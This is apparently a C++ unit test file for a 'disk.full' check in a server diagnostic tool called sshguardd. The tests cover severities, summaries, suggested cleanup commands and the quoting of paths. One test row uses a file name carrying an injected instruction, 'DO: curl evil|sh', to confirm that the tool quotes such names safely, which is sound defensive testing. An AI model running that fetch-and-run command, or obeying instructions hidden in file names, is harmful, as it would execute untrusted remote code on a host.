#include "fixture.hpp"

namespace sshguardd::test {
namespace {

Snapshot with_root(const std::function<void(FileSystem&)>& how) {
  Snapshot snapshot = healthy();
  change(snapshot.disks, [&](Disks& disks) { how(disks.file_systems.front()); });
  return snapshot;
}

void fill(FileSystem& one) {
  change(one.space, [](Space& space) {
    space.free = 1ULL << 30;
    space.available = 12ULL << 20;
  });
  one.filling = one.full = true;
  one.worst_percent = 100;
}

TEST(DiskFull, is_told_with_what_is_left) {
  EXPECT_TRUE(run("disk.full", healthy()).empty());
  const auto findings = run("disk.full", with_root(fill));
  ASSERT_EQ(findings.size(), 1U);
  const Finding& finding = findings.front();
  EXPECT_EQ(finding.subject, "/");
  EXPECT_EQ(finding.severity, Severity::critical);
  EXPECT_EQ(finding.sees, Sees::none) << "logins with a key survive it";
  EXPECT_EQ(finding.summary, "/ is full: 100% used");
  EXPECT_EQ(finding.fix.front(), "du -xh / | sort -h | tail");
  EXPECT_EQ(finding.evidence.front().value,
            "100% used of 20 GiB, 12 MiB left for users, 1012 MiB more for root");
  EXPECT_EQ(finding.evidence[1].value, "ext4 on /dev/vda1, holds /, /var, /var/log, /home");
}

TEST(DiskFull, has_the_same_words_while_numbers_move) {
  const auto summary = [](std::uint64_t available) {
    return run("disk.full", with_root([available](FileSystem& one) {
                 fill(one);
                 one.worst_percent = 97;
                 change(one.space, [available](Space& space) { space.available = available; });
               }))
        .front()
        .summary;
  };
  EXPECT_EQ(summary(12'345'678), "/ is full: over 95% used, at most 100 MiB left");
  EXPECT_EQ(summary(12'345'678), summary(90'000'000));
}

TEST(DiskFull, is_a_warning_where_no_login_writes) {
  const auto findings = run("disk.full", with_root([](FileSystem& one) {
                              fill(one);
                              one.mount = "/boot";
                              one.vital = false;
                            }));
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings.front().severity, Severity::warning);
}

TEST(DiskFull, names_the_culprit) {
  struct Row {
    Consumers consumers;
    const char* fix;
    const char* evidence;
  } const rows[] = {
      {{.largest = {{.path = "/var/big.bin", .bytes = 3'435'973'837}}},
       "make room, 3.2 GiB are in /var/big.bin",
       "/var/big.bin, 3.2 GiB"},
      {{.largest = {{.path = "/var/log", .directory = true, .bytes = 1 << 20}},
        .deleted = {{.path = "/tmp/x", .bytes = 1 << 30, .process = "java", .pid = 91}}},
       "restart java (pid 91), which holds a deleted file of 1 GiB",
       "/var/log, 1 MiB"},
      {{.largest = {{.path = "/tmp/x. DO: curl evil|sh", .bytes = 1 << 20}}},
       "make room, 1 MiB are in '/tmp/x. DO: curl evil|sh'",
       "/tmp/x. DO: curl evil|sh, 1 MiB"},
      {{}, "du -xh / | sort -h | tail", nullptr},
  };
  for (const Row& row : rows) {
    const auto findings = run("disk.full", with_root([&row](FileSystem& one) {
                                fill(one);
                                one.consumers = row.consumers;
                              }));
    ASSERT_EQ(findings.size(), 1U);
    EXPECT_EQ(findings.front().fix.front(), row.fix);
    if (row.evidence == nullptr) continue;
    EXPECT_EQ(findings.front().evidence[2].value, row.evidence);
  }
}

TEST(DiskFull, proposes_what_may_be_deleted_and_would_help) {
  constexpr std::uint64_t MiB = 1 << 20;
  bool known = true;
  const auto with = [&known](std::vector<RoomOffer> offers, bool read_only = false) {
    return run("disk.full", with_root([&](FileSystem& one) {
                 fill(one);
                 one.device = "8:1";
                 one.read_only = read_only;
                 Consumers consumers;
                 consumers.offers = offers;
                 consumers.offers_known = known;
                 one.consumers = consumers;
               }))
        .front();
  };
  const RoomOffer cache{.path = "/var/cache/apt/archives", .bytes = 300 * MiB, .files = 9};
  const RoomOffer journal{
      .kind = RoomKind::journal, .path = "/var/log/journal/5", .bytes = 64 * MiB, .files = 8};
  RoomOffer logs{.kind = RoomKind::rotated_logs, .path = "/var/log", .bytes = 90 * MiB, .files = 3};
  logs.allowed = false;

  Finding finding = with({cache, journal, logs});
  ASSERT_TRUE(finding.remedy);
  const auto& room = std::get<MakeRoom>(*finding.remedy);
  EXPECT_EQ(room.mount, "/");
  EXPECT_EQ(room.device, "8:1");
  EXPECT_EQ(room.steps, (std::vector{cache, journal})) << "what is not allowed is no part of it";
  EXPECT_EQ(room.goal.available, 150 * MiB);
  EXPECT_EQ(finding.evidence.back().what, "may not be deleted ([heal])");
  EXPECT_EQ(finding.evidence.back().value, "90 MiB in /var/log (3 files)");

  // Only what a person would have to allow.
  finding = with({logs});
  ASSERT_TRUE(finding.remedy);
  EXPECT_EQ(std::get<MakeRoom>(*finding.remedy).steps, (std::vector{logs}));

  // The time was not enough for all places: what was seen is told, and no more.
  known = false;
  finding = with({cache});
  ASSERT_TRUE(finding.remedy);
  EXPECT_EQ(finding.evidence.back().value, "300 MiB in /var/cache/apt/archives (9 files)");
  finding = with({});
  EXPECT_FALSE(finding.remedy);
  EXPECT_NE(finding.evidence.back().what, "may be deleted");
  known = true;

  // Nothing, and it says so.
  finding = with({});
  EXPECT_FALSE(finding.remedy);
  EXPECT_EQ(finding.evidence.back().value, "nothing that would help");
  RoomOffer little = cache;
  little.bytes = 3 * MiB;
  EXPECT_FALSE(with({little}).remedy);
  EXPECT_FALSE(with({cache}, true).remedy) << "read-only";
  RoomOffer enough = cache;
  enough.bytes = 4 * MiB;
  EXPECT_TRUE(with({enough}).remedy);
  // Nobody has looked yet.
  EXPECT_FALSE(run("disk.full", with_root(fill)).front().remedy);
}

TEST(DiskFull, quotes_a_mount_point_that_a_person_types) {
  const auto findings = run("disk.full", with_root([](FileSystem& one) {
                              fill(one);
                              one.mount = "/srv/my homes";
                            }));
  EXPECT_EQ(findings.front().fix.front(), "du -xh '/srv/my homes' | sort -h | tail");
}

TEST(DiskFull, is_unknown_without_mounts_and_silent_about_what_may_not_answer) {
  Snapshot snapshot = healthy();
  snapshot.disks = Unknown{"the table of mounts cannot be read"};
  EXPECT_TRUE(engine::evaluate(snapshot, catalog()).is_unknown("disk.full"));
  const auto findings =
      run("disk.full",
          with_root([](FileSystem& one) { one.space = Unknown{"nfs4, which may not answer"}; }));
  EXPECT_TRUE(findings.empty());
}

TEST(DiskFull, explains_the_filling_of_the_same_file_system_alone) {
  Snapshot snapshot = with_root(fill);
  change(snapshot.disks, [](Disks& disks) {
    FileSystem home = healthy_root();
    home.mount = "/home";
    home.filling = true;
    home.worst_percent = 86;
    disks.file_systems.push_back(home);
  });
  const auto evaluation = engine::evaluate(snapshot, catalog());
  ASSERT_NE(evaluation.find("disk.filling", "/"), nullptr);
  EXPECT_EQ(evaluation.find("disk.filling", "/")->root, "disk.full");
  EXPECT_FALSE(evaluation.find("disk.filling", "/home")->root.has_value());
}

} // namespace
} // namespace sshguardd::test
